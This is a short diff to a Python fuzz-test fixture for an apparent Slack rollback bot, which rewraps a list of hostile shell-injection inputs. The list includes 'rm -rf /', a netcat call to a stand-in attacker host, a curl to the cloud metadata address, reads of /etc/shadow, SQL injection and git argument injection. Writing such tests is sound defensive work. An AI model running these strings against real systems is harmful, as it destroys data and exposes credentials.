@@ -3,7 +3,8 @@ fuzz tests; none of it may run anything, reach Slack unescaped, or leave a trace
 
 from __future__ import annotations
 
-SHELL = ["$(touch /tmp/rollback-bot-pwned)", "`id`", "; rm -rf /", "&& reboot", "| nc attacker 4444", "$HOME", "${PATH}",
+SHELL = ["$(touch /tmp/rollback-bot-pwned)", "`id`", "; rm -rf /", "&& reboot", "| nc attacker 4444", "$HOME",
+         "${PATH}",
          "'; DROP TABLE incidents; --", "\\$(whoami)", "a;b", "x||y", "> /etc/passwd", "< /etc/shadow",
          "$(curl http://169.254.169.254/)", "%0Arm -rf /", "\u0000", "\n--force", "-rf", "--upload-pack=evil",
          "-c core.sshCommand=evil"]
